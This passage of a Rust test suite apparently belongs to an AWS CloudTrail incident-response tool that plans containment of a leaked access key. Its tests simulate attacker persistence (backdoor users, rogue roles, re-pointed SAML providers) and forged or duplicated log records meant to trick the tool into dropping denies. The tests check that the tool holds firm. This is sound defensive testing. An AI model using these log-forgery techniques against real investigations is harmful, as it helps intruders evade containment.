                    r["responseElements"]["accessKey"]["userName"] = json!(other);
                    r["recipientAccountId"] = json!(account);
                }
                making
            });
            let d = write(&s, &[]);
            let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
            assert_eq!(code, 1, "{other} {before}: {err}");
            assert!(!deactivated(&p).contains(&made.key.as_str()), "{other} {before}: {p:#}");
            let (code, v) = verify(&d, &p);
            assert_eq!(code, 1, "{other} {before}: {v:#}");
            let left = v["keys_left_active"].as_array().unwrap();
            assert!(left.contains(&json!(made.key)), "{other} {before}: {v:#}");
        }
    }
}

/// A copy of the attacker's `CreateUser backdoor` (or `CreateRole`) made to look like another
/// user's call a second later (same eventID), or forged under a new eventID: before, any
/// successful making of the name after the attacker's showed the attacker's user or role gone
/// (IAM makes none over a taken name), so the plan dropped its deny-all and the password's
/// removal, and verify said OK. Without a deletion logged in between, the attacker's one is
/// still taken to be there.
#[test]
fn a_later_making_of_the_attackers_name_without_a_deletion_does_not_free_it() {
    let alice_key = "AKIAI44QH8DHBEXAMPLE";
    for forged in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", alice_key);
        s.call(&alice, T0 - 600, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.create_user(&leaked, T0, "backdoor");
        let iam = "iam.amazonaws.com";
        let trust =
            json!({"roleName": "EvilRole", "assumeRolePolicyDocument": "{\"Statement\":[]}"});
        s.call(&leaked, T0 + 5, iam, "CreateRole", trust);
        s.create_login_profile(&leaked, T0 + 10, "backdoor");
        let console = s.console_login(MAIN, T0 + 1200, "backdoor");
        s.call(&console, T0 + 1260, iam, "ListUsers", Value::Null);
        s.copy_records(false, |r| {
            let making = r["eventName"] == "CreateUser" || r["eventName"] == "CreateRole";
            if making {
                let who = r["userIdentity"]
                    .to_string()
                    .replace("ci-deployer", "alice")
                    .replace(LEAKED, alice_key);
                r["userIdentity"] = serde_json::from_str(&who).unwrap();
                let t = r["eventTime"]
                    .as_str()
                    .unwrap()
                    .replace(":00Z", ":01Z")
                    .replace(":05Z", ":06Z");
                r["eventTime"] = json!(t);
                if forged {
                    let id = r["eventID"].as_str().unwrap().replace('0', "f");
                    r["eventID"] = json!(id);
                }
            }
            making
        });
        let d = write(&s, &[]);
        assert!(tainted_ids(&d, LEAKED).contains(&console.node_id()), "{forged}");
        let p = plan(&d, LEAKED, "strict");
        let users = principals(&p, "put_user_policy");
        assert!(users.contains(&format!("arn:aws:iam::{MAIN}:user/backdoor")), "{forged}: {p:#}");
        let roles = principals(&p, "put_role_policy");
        assert!(roles.contains(&format!("arn:aws:iam::{MAIN}:role/EvilRole")), "{forged}: {p:#}");
        assert!(actions(&p, "delete_login_profile").iter().any(|a| a["user_name"] == "backdoor"));
        assert_eq!(verify(&d, &p).0, 0, "{forged}");
    }
}

/// A copy of a SAML sign-in through the provider the attacker re-pointed (same eventID)
/// naming another provider, in front of the true record or after it: before, the last copy
/// read named the sign-in's provider, so a copy read last unlinked the attacker's sign-in (no
/// deny, verify OK). Every provider its records name now links it.
#[test]
fn a_copy_of_a_saml_sign_in_naming_another_provider_does_not_unlink_it() {
    for before in [true, false] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let okta = format!("arn:aws:iam::{MAIN}:saml-provider/CorpOkta");
        let other = format!("arn:aws:iam::{MAIN}:saml-provider/PartnerIdP");
        let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
        s.update_saml_provider(&leaked, T0 + 60, &okta);
        let after = s.assume_role_with_saml(&okta, &admin, "mallory", T0 + 120, 4 * 3600);
        s.call(&after, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.copy_records(before, |r| {
            let sign_in = r["eventName"] == "AssumeRoleWithSAML";
            if sign_in {
                r["requestParameters"]["principalArn"] = json!(other);
            }
            sign_in
        });
        let d = write(&s, &[]);
        assert!(tainted_ids(&d, LEAKED).contains(&after.node_id()), "{before}");
        let p = plan(&d, LEAKED, "strict");
        assert_eq!(principals(&p, "put_role_policy"), std::slice::from_ref(&admin), "{before}");
        assert_eq!(verify(&d, &p).0, 0, "{before}");
    }
}

/// After the leaked key set a role's trust policy, another account's session of the role is
/// the attacker's (rule 3, only the role owner's `AWSAccount` record of the call). A copy of
/// that record (same eventID) naming a clean user's key as the caller, read first, made the
/// session that user's: no deny, verify OK; read after, it was denied. Both records are now
/// drawn as its issuers, so the rule takes it in either order.
#[test]
fn a_copy_naming_a_clean_caller_does_not_take_a_session_out_of_the_trust_rule() {
    let role = format!("arn:aws:iam::{MAIN}:role/ProdRole");
    for (before, keep_shared) in [(true, false), (false, false), (true, true), (false, true)] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        s.call(&alice, T0 - 600, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let trust = json!({"roleName": "ProdRole", "policyDocument": "{}"});
        s.call(&leaked, T0, "iam.amazonaws.com", "UpdateAssumeRolePolicy", trust);
        let attacker = s.user_key(THIRD, "x", "AKIAJ7CAROL00EXAMPLE");
        let theirs = s.assume_role(&attacker, T0 + 300, &role, "x", 12 * 3600);
        s.call(&theirs, T0 + 360, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let mut alice_id = Value::Null;
        s.edit_records(|_, r| {
            if r["userIdentity"]["userName"] == "alice" {
                alice_id = r["userIdentity"].clone();
            }
        });
        s.copy_records(before, |r| {
            let owner_copy =
                r["eventName"] == "AssumeRole" && r["userIdentity"]["type"] == "AWSAccount";
            if owner_copy {
                r["userIdentity"] = alice_id.clone();
                if !keep_shared {
                    r.as_object_mut().unwrap().remove("sharedEventID");
                }
            }
            owner_copy
        });
        let d = write(&s, &[THIRD]);
        let case = format!("{before} {keep_shared}");
        assert!(tainted_ids(&d, LEAKED).contains(&theirs.node_id()), "{case}");
        let p = plan(&d, LEAKED, "strict");
        assert!(principals(&p, "put_role_policy").contains(&role), "{case}: {p:#}");
        assert_eq!(verify(&d, &p).0, 0, "{case}");
    }
}

/// A copy of the attacker's `CreateRole` (same eventID) naming `ProdRole`, a role in use an
/// hour before, in front of the true record or after it, and a `CreateRole ProdRole` forged
/// under its own eventID: before, `ProdRole` got the attacker's-role deny-all with a reason
/// saying the attacker made it and a review item advising its deletion (the production role's
/// sessions denied, plan exit 0). Each role such a record may not have made is still denied
/// everything (a deny can be taken back), with a review item saying why and not to delete it
/// before checking; a role only the attacker's records name keeps its own review.
#[test]
fn a_role_a_copy_of_the_creation_names_is_left_to_a_review() {
    let iam = "iam.amazonaws.com";
    let make = |s: &mut Scenario, by: &Cred, at: i64, name: &str| {
        let q = json!({"roleName": name, "assumeRolePolicyDocument": "{\"Statement\":[]}"});
        s.call(by, at, iam, "CreateRole", q);
    };
    let mut plans = Vec::new();
    for (case, before) in [("copy", true), ("copy", false), ("forged", false)] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        let prod = format!("arn:aws:iam::{MAIN}:role/ProdRole");
        let alices = s.assume_role(&alice, T0 - 3600, &prod, "alice", 43200);
        s.call(&alices, T0 - 3590, "s3.amazonaws.com", "ListBuckets", Value::Null);
        make(&mut s, &leaked, T0, "EvilRole");
        if case == "copy" {
            s.copy_records(before, |r| {
                let making = r["eventName"] == "CreateRole";
                if making {
                    r["requestParameters"]["roleName"] = json!("ProdRole");
                }
                making
            });
        } else {
            make(&mut s, &leaked, T0 + 60, "ProdRole");
        }
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        let denied = principals(&p, "put_role_policy");
        assert!(denied.contains(&format!("arn:aws:iam::{MAIN}:role/EvilRole")), "{denied:?}");
        assert!(denied.contains(&prod), "{case} {before}: {denied:?}");
        let reasons = review_reasons(&p).join("\n");
        assert!(reasons.contains("role ProdRole may not be one the attacker made"), "{reasons}");
        let why = if case == "copy" { "copies of its CreateRole" } else { "was in use at" };
        assert!(reasons.contains(why), "{case}: {reasons}");
        // No review advises deleting ProdRole; EvilRole's advises it only when no copy
        // disputes it.
        assert!(!reasons.contains("CreateRole role/ProdRole"), "{reasons}");
        let evil_disputed = reasons.contains("role EvilRole may not be one the attacker made");
        assert_eq!(evil_disputed, case == "copy", "{reasons}");
        assert_eq!(reasons.contains("CreateRole role/EvilRole"), case != "copy", "{reasons}");
        assert_eq!(verify(&d, &p).0, 0);
        if case == "copy" {
            plans.push(serde_json::to_string(&p["actions"]).unwrap());
        }
    }
    assert_eq!(plans[0], plans[1], "the copies' order decides nothing");
}

/// The leaked key's own session of another role, named after an instance the attacker
/// launched (whose own sessions the trail lacks): before, it was taken for the instance's
/// session, the launch's deny went on that role and the instance's role was never named
/// (plan 0, verify OK). A session a credential's own call issued is no instance's: the launch
/// is still a route not followed.
#[test]
fn a_session_a_caller_named_after_an_instance_is_not_the_instances() {
    let instance = "i-0a1b2c3d4e5f60718";
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.run_instances(&leaked, T0 + 60, "WebProfile", &[instance]);
    let ro = format!("arn:aws:iam::{MAIN}:role/ReadOnlyRole");
    let decoy = s.assume_role(&leaked, T0 + 300, &ro, instance, 3600);
    s.call(&decoy, T0 + 330, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 1);
    assert_one_route(&review_reasons(&p), "RunInstances", "ec2 instances");
    assert_eq!(verify(&d, &p).0, 1);
    // The instance's own session (EC2's, named by it) is still tied to the launch.
    let web = format!("arn:aws:iam::{MAIN}:role/WebRole");
    let own = s.instance_session(&web, instance, T0 + 120, 6 * 3600);
    s.call(&own, T0 + 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    assert!(tainted_ids(&d, LEAKED).contains(&own.node_id()));
    let p = plan(&d, LEAKED, "strict");
    assert_eq!(p["summary"]["routes_not_followed"], Value::Null, "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// A change that set a function's role, whose request also names another role's ARN (in its
/// `description`), where the function's tainted session is of that other role: before, that
/// session stood for the change (plan 0, verify OK) and the role the function now runs with
/// was never named. Every role the request names must have a tainted session of the function.
#[test]
fn a_role_arn_elsewhere_in_a_function_change_does_not_stand_for_its_role() {
    let prod = format!("arn:aws:iam::{MAIN}:role/ProdRole");
    let admin = format!("arn:aws:iam::{MAIN}:role/LambdaAdmin");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.function_change(&leaked, T0 + 60, "CreateFunction20150331", "backdoor", Some(&prod));
    let f = s.function_session(&prod, "backdoor", T0 + 120, 900);
    s.call(&f, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let moved = "UpdateFunctionConfiguration20150331v2";
    s.function_change(&leaked, T0 + 300, moved, "backdoor", Some(&admin));
    s.edit_records(|_, r| {
        if r["eventName"] == moved {
            r["requestParameters"]["description"] = json!(prod.clone());
        }
    });
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 1);
    assert_one_route(&review_reasons(&p), moved, "function backdoor");
    assert_eq!(verify(&d, &p).0, 1);
}

/// Trust-policy and password calls of tainted credentials whose records name no role or
/// user (the request null): before, each was dropped (a `role/?` review item, plan 0, verify
/// OK) though the role's outside session, or the user's console sign-in, followed. Each is now
/// a NOT CUT item: plan exits 1 and verify fails.
#[test]
fn a_trust_or_password_change_whose_record_names_nothing_is_not_cut() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    for event in ["UpdateAssumeRolePolicy", "CreateRole", "UpdateLoginProfile"] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let adm = s.assume_role(&leaked, T0, &admin, "ci", 3600);
        s.call(&adm, T0 + 60, "iam.amazonaws.com", event, Value::Null);
        let d = write(&s, &[]);
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{event}: {err}");
        assert!(p["notes"].to_string().contains("NOT CUT"), "{event}: {p:#}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{event}: {v}");
    }
}

/// The `userIdentity` of the first record `c` signed.
fn identity_of(s: &mut Scenario, c: &Cred) -> Value {
    let mut found = Value::Null;
    s.edit_records(|_, r| {
        if found.is_null() && r["userIdentity"]["accessKeyId"] == c.key.as_str() {
            found = r["userIdentity"].clone();
        }
    });
    found
}

/// A copy of the leaked user's 12-hour `AssumeRole` (same eventID, or a new one) naming a role
/// session as its caller and stating no expiration, read first: before, the session's life
/// was taken from the first caller drawn, a role session, so capped at an hour (F4), judged
/// expired at the cut-off, and its role had no deny (plan 0, verify OK). The cap holds only
/// when every caller drawn is a role session.
#[test]
fn a_copy_naming_a_role_session_as_caller_does_not_cap_a_users_session_at_an_hour() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    for forged in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
        let ops = s.assume_role(
            &bob,
            T0 - 7800,
            &format!("arn:aws:iam::{MAIN}:role/OpsRole"),
            "bob",
            43200,
        );
        s.call(&ops, T0 - 7790, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let session = s.assume_role(&leaked, T0 - 7200, &admin, "ci", 43200);
        s.call(&session, T0 - 7140, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let caller = identity_of(&mut s, &ops);
        s.copy_records(true, |r| {
            let copy = r["eventName"] == "AssumeRole" && r["requestParameters"]["roleArn"] == admin;
            if copy {
                r["userIdentity"] = caller.clone();
                r["responseElements"]["credentials"].as_object_mut().unwrap().remove("expiration");
                if forged {
                    r["eventID"] = json!("00000000-0000-4000-8000-000000000001");
                }
            }
            copy
        });
        let d = write(&s, &[]);
        assert!(tainted_ids(&d, LEAKED).contains(&session.node_id()), "{forged}");
        let p = plan(&d, LEAKED, "strict");
        assert!(principals(&p, "put_role_policy").contains(&admin), "{forged}: {p:#}");
        assert_eq!(verify(&d, &p).0, 0, "{forged}");
    }
}

/// One call of an IAM user's federated session (`GetFederationToken`, logged) naming root as
/// its issuer, forged or a copy of its first call read first: before, the session became
/// "minted by root", unrevocable, and its user's deny was dropped (plan 0, verify OK). Only a
/// session no logged call issued takes root from its calls.
#[test]
fn a_call_naming_root_as_issuer_does_not_make_a_users_federated_session_roots() {
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    for forged in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let fed = s.get_federation_token(&leaked, T0 - 3000, "contractor", 36 * 3600);
        s.call(&fed, T0 - 2940, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.copy_records(true, |r| {
            let copy = r["userIdentity"]["accessKeyId"] == fed.key.as_str();
            if copy {
                r["userIdentity"]["sessionContext"]["sessionIssuer"]["type"] = json!("Root");
                if forged {
                    r["eventID"] = json!("00000000-0000-4000-8000-000000000002");
                    let created = r["userIdentity"]["sessionContext"]["attributes"]["creationDate"]
                        .as_str()
                        .unwrap()
                        .replace(":00Z", ":01Z");
                    r["userIdentity"]["sessionContext"]["attributes"]["creationDate"] =
                        json!(created);
                }
            }
            copy
        });
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        assert!(principals(&p, "put_user_policy").contains(&user), "{forged}: {p:#}");
        assert_eq!(p["summary"]["unrevocable_sessions"], 0, "{forged}: {p:#}");
        assert_eq!(verify(&d, &p).0, 0, "{forged}");
    }
}

/// A forged `DeleteUser` of the attacker's user the trail contradicts: in the second its key
/// was made (the key used later), or a second after its console sign-in whose calls go on for
/// 50 minutes. Before, each was believed: the user's deny-all, password removal and deletion
/// were dropped (plan 0, verify OK).
#[test]
fn a_deletion_the_users_later_use_contradicts_is_not_believed() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    for case in ["key", "console"] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let adm = s.assume_role(&leaked, T0 - 3600, &admin, "ci", 43200);
        s.create_user(&adm, T0 - 3500, "evil");
        s.create_login_profile(&adm, T0 - 3490, "evil");
        let deleted_at = if case == "key" {
            let key = s.create_access_key(&adm, T0 - 3480, Some("evil"));
            s.call(&key, T0 - 1200, "s3.amazonaws.com", "ListBuckets", Value::Null);
            T0 - 3480
        } else {
            let console = s.console_login(MAIN, T0 - 1200, "evil");
            s.call(&console, T0 - 1100, "iam.amazonaws.com", "ListUsers", Value::Null);
            s.call(&console, T0 + 1800, "iam.amazonaws.com", "ListRoles", Value::Null);
            T0 - 1199
        };
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        s.call(&alice, deleted_at, "iam.amazonaws.com", "DeleteUser", json!({"userName": "evil"}));
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        let deleted: Vec<_> =
            actions(&p, "delete_user").iter().map(|a| a["user_name"].clone()).collect();
        assert_eq!(deleted, [json!("evil")], "{case}: {p:#}");
        assert!(
            actions(&p, "delete_login_profile").iter().any(|a| a["user_name"] == "evil"),
            "{case}"
        );
        assert_eq!(verify(&d, &p).0, 0, "{case}");
    }
}

/// A copy of a tainted session's `GetSigninToken` (same eventID) signed by a clean session,
/// read first: before, the console session no record shows was the first signer's, the
/// tainted role's deny was dropped (plan 0, verify OK). Each signer a copy names now gets one.
#[test]
fn a_copy_of_a_signin_token_call_by_a_clean_session_does_not_take_the_console_session() {
    let billing = format!("arn:aws:iam::{MAIN}:role/BillingAdmin");
    let prod = format!("arn:aws:iam::{MAIN}:role/ProdRole");
    const B: i64 = T0 - 7200;
    // Signed by another principal's clean session, or (found by a review of the first fix) by
    // a clean session of the same role and session name: drawn as another issuer.
    for clean_role in [&prod, &billing] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        let clean = s.assume_role(&alice, B - 600, clean_role, "ci2", 3600);
        s.call(&clean, B - 590, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let session = s.assume_role(&leaked, B, &billing, "ci2", 900);
        s.call(&session, B + 120, "signin.amazonaws.com", "GetSigninToken", Value::Null);
        let signer = identity_of(&mut s, &clean);
        s.copy_records(true, |r| {
            let copy = r["eventName"] == "GetSigninToken";
            if copy {
                r["userIdentity"] = signer.clone();
            }
            copy
        });
        let d = write(&s, &[]);
        let (_, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert!(principals(&p, "put_role_policy").contains(&billing), "{err}: {p:#}");
        assert_eq!(verify(&d, &p).0, 0, "{clean_role}");
    }
}

/// A copy of the leaked key's Cognito developer token call (same eventID) saying the token
/// lasts 60 seconds, or naming a clean caller, read first: before, the token was over (or the
/// clean caller's) and what it could mint uncounted (plan 0, verify OK). Each copy's caller
/// is drawn, and the token lasts as long as any copy says.
#[test]
fn a_copy_of_a_cognito_token_call_does_not_end_it_or_give_it_away() {
    let pool = "us-east-1:11111111-2222-3333-4444-555555555555";
    let mine = "us-east-1:aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee";
    for case in ["short", "clean caller"] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        s.call(&alice, T0 - 50_000, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.cognito_developer_token(&leaked, T0 - 50_000, pool, mine, Some(86_400));
        let other = identity_of(&mut s, &alice);
        s.copy_records(true, |r| {
            let copy = r["eventName"] == "GetOpenIdTokenForDeveloperIdentity";
            if copy && case == "short" {
                r["requestParameters"]["tokenDuration"] = json!(60);
            } else if copy {
                r["userIdentity"] = other.clone();
            }
            copy
        });
        let d = write(&s, &[]);
        let (code, p, _) =
            run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{case}: the token outlives the cut-off: {p:#}");
        assert!(p["notes"].to_string().contains("NOT COVERED"), "{case}: {p:#}");
        assert_eq!(verify(&d, &p).0, 1, "{case}");
    }
}

/// (A way around the fix above, found by a review of it.) A session an outside account took through a trust policy the leaked key opened, named
/// after the instance the key launched: no instance's (only EC2 issues those).
#[test]
fn a_session_from_outside_named_after_an_instance_is_not_the_instances() {
    let instance = "i-0a1b2c3d4e5f60718";
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.run_instances(&leaked, T0 + 60, "WebProfile", &[instance]);
    let outsider = s.user_key(SECOND, "mallory", "AKIAI44QH8DHBEXAMPLE");
    let ro = format!("arn:aws:iam::{MAIN}:role/ReadOnlyRole");
    let decoy = s.assume_role(&outsider, T0 + 300, &ro, instance, 3600);
    s.call(&decoy, T0 + 330, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[SECOND]);
    let p = plan_with_routes(&d, LEAKED, 1);
    assert_one_route(&review_reasons(&p), "RunInstances", "ec2 instances");
}

/// A root key's `CreateUser` whose record names no user is still a user made under a name
/// the logs do not give (NOT CUT), not root's own password.
#[test]
fn an_unnamed_user_root_made_is_not_roots_password() {
    let mut s = Scenario::new();
    let root = s.root_key(MAIN, LEAKED);
    s.call(&root, T0 + 60, "iam.amazonaws.com", "CreateUser", Value::Null);
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert!(p["notes"].to_string().contains("NOT CUT"), "{p:#}");
    assert_eq!(verify(&d, &p).0, 1);
}

/// A function made with its role and, in its environment, the ARN of a role its code
/// assumes, with a tainted session of its own role: the request names two roles and which is
/// the function's is not known, so the change stays a route not followed (fail closed) until
/// a tainted session of the function with each shows. A review linked a session of the
/// environment's role, issued after the change, to a function that had not run when one
/// named role's session sufficed (verify OK).
#[test]
fn a_role_arn_in_a_functions_environment_holds_its_change_unfollowed() {
    let exec = format!("arn:aws:iam::{MAIN}:role/LambdaExec");
    let data = format!("arn:aws:iam::{MAIN}:role/DataRole");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.function_change(&leaked, T0 + 60, "CreateFunction20150331", "backdoor", Some(&exec));
    s.edit_records(|_, r| {
        if r["eventName"] == "CreateFunction20150331" {
            r["requestParameters"]["environment"] =
                json!({"variables": {"TARGET_ROLE_ARN": data.clone()}});
        }
    });
    let f = s.function_session(&exec, "backdoor", T0 + 120, 900);
    s.call(&f, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 1);
    assert!(principals(&p, "put_role_policy").contains(&exec), "{p:#}");
    assert_one_route(&review_reasons(&p), "CreateFunction20150331", "function backdoor");
    assert_eq!(verify(&d, &p).0, 1);
}

/// A real deletion of the attacker's user by an admin, after which the user's console session
/// kept trying and every call was refused: the deletion is believed (refused calls show no
/// user there), and nothing is planned on the user that is gone.
#[test]
fn calls_refused_after_a_deletion_do_not_contradict_it() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let adm = s.assume_role(&leaked, T0 - 3600, &admin, "ci", 43200);
    s.create_user(&adm, T0 - 3500, "evil");
    s.create_login_profile(&adm, T0 - 3490, "evil");
    let console = s.console_login(MAIN, T0 - 3000, "evil");
    s.call(&console, T0 - 2900, "iam.amazonaws.com", "ListUsers", Value::Null);
    let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
    let q = json!({"userName": "evil"});
    s.call(&alice, T0 - 1210, "iam.amazonaws.com", "DeleteLoginProfile", q.clone());
    s.call(&alice, T0 - 1200, "iam.amazonaws.com", "DeleteUser", q);
    for k in 0..4 {
        let at = T0 - 600 + k * 600;
        let (iam, denied) = ("iam.amazonaws.com", Some("AccessDenied"));
        s.call_full(
            &console,
            at,
            iam,
            "ListRoles",
            Value::Null,
            Value::Null,
            denied,
            "Mozilla/5.0",
        );
    }
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(actions(&p, "delete_user").is_empty(), "{p:#}");
    assert!(actions(&p, "delete_login_profile").is_empty(), "{p:#}");
    assert!(!p["actions"].to_string().contains("attacker-controlled"), "{p:#}");
    let (_, g, _) = run(&["sessions", "--format", "json"], &d);
    assert!(!g["notes"].to_string().contains("not believed"), "{g}");
}

/// One record of the leaked user key's calls saying root signed it (a copy of its first call
/// read first, or a forged call earlier than the others): before, the key was "root's access
/// key", listed unrevocable and never deactivated (plan 0, verify OK). And the other way
/// round: a root key with one earlier record naming a user. A key is one principal's and the
/// logs cannot tell which: it is left to a review item with each remedy, and verify fails.
#[test]
fn a_key_whose_calls_name_root_and_a_user_is_left_to_a_review() {
    for root_first in [false, true] {
        let mut s = Scenario::new();
        let leaked = if root_first {
            s.root_key(MAIN, LEAKED)
        } else {
            s.user_key(MAIN, "ci-deployer", LEAKED)
        };
        s.call(&leaked, T0 - 3000, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
        s.call(&leaked, T0 - 2000, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let other = if root_first {
            json!({"type": "IAMUser", "principalId": "AIDAJQABLZS4A3QDU576Q", "arn": format!("arn:aws:iam::{MAIN}:user/ci-deployer"), "accountId": MAIN, "userName": "ci-deployer", "accessKeyId": LEAKED})
        } else {
            json!({"type": "Root", "principalId": MAIN, "arn": format!("arn:aws:iam::{MAIN}:root"), "accountId": MAIN, "accessKeyId": LEAKED})
        };
        s.copy_records(true, |r| {
            let copy = r["eventName"] == "GetCallerIdentity";
            if copy {
                r["userIdentity"] = other.clone();
            }
            copy
        });
        let d = write(&s, &[]);
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{root_first}: {err}");
        let reasons = review_reasons(&p).join("\n");
        assert!(reasons.contains(&format!("deactivate access key {LEAKED} by hand")), "{reasons}");
        assert!(reasons.contains("root of account"), "{reasons}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{root_first}: {v}");
    }
}

/// A tainted session that used EKS and expired before the cut-off, and the leaked key itself
/// using EKS: what either did inside a cluster is not in CloudTrail, and a workload it started
/// renews its role's sessions by itself (F21, F22). Before, the expired session's use was
/// dropped (plan 0, verify OK). Each is a route not followed.
#[test]
fn an_expired_session_or_a_key_that_used_eks_is_a_route_not_followed() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    for by_key in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let session = s.assume_role(&leaked, T0 - 7200, &admin, "ci", 3600);
        let who = if by_key { &leaked } else { &session };
        s.call(who, T0 - 7000, "eks.amazonaws.com", "DescribeCluster", json!({"name": "prod"}));
        let d = write(&s, &[]);
        let p = plan_with_routes(&d, LEAKED, 1);
        assert!(review_reasons(&p).iter().any(|r| r.contains("used Amazon EKS")), "{p:#}");
        assert_eq!(verify(&d, &p).0, 1, "{by_key}");
    }
    // Listing the clusters, or a call refused, is ordinary enumeration: no route (a review of
    // the first version found a refused `ListClusters` failing every verify).
    for (name, err) in [("ListClusters", None), ("DescribeCluster", Some("AccessDenied"))] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let q = json!({"name": "prod"});
        s.call_full(
            &leaked,
            T0 - 7000,
            "eks.amazonaws.com",
            name,
            q,
            Value::Null,
            err,
            "aws-cli/2.15.0",
        );
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        assert_eq!(verify(&d, &p).0, 0, "{name}");
    }
}

/// Ways around the fixes above found by a second review of them: a session named after the
/// launched instance whose `AssumeRole` the trail lacks (a region it does not hold) carries no
/// EC2 mark, so is no instance's.
#[test]
fn a_session_named_after_an_instance_with_no_ec2_mark_is_not_the_instances() {
    let instance = "i-0a1b2c3d4e5f60718";
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.run_instances(&leaked, T0 + 60, "WebProfile", &[instance]);
    let ro = format!("arn:aws:iam::{MAIN}:role/ReadOnlyRole");
    let decoy = s.assume_role(&leaked, T0 + 300, &ro, instance, 3600);
    s.call(&decoy, T0 + 330, "iam.amazonaws.com", "ListRoles", Value::Null);
    s.drop_records(|_, r| r["eventName"] == "AssumeRole");
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 1);
    assert_one_route(&review_reasons(&p), "RunInstances", "ec2 instances");
}

/// Two copies of a tainted session's `GetSigninToken` read first, one signed by another
/// principal's clean session and one by a clean session of the same principal: the true
/// record is still drawn as an issuer of the console session.
#[test]
fn two_signin_token_copies_do_not_take_the_console_session() {
    let billing = format!("arn:aws:iam::{MAIN}:role/BillingAdmin");
    const B: i64 = T0 - 7200;
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
    let same = s.assume_role(&alice, B - 600, &billing, "ci2", 3600);
    s.call(&same, B - 590, "s3.amazonaws.com", "ListBuckets", Value::Null);
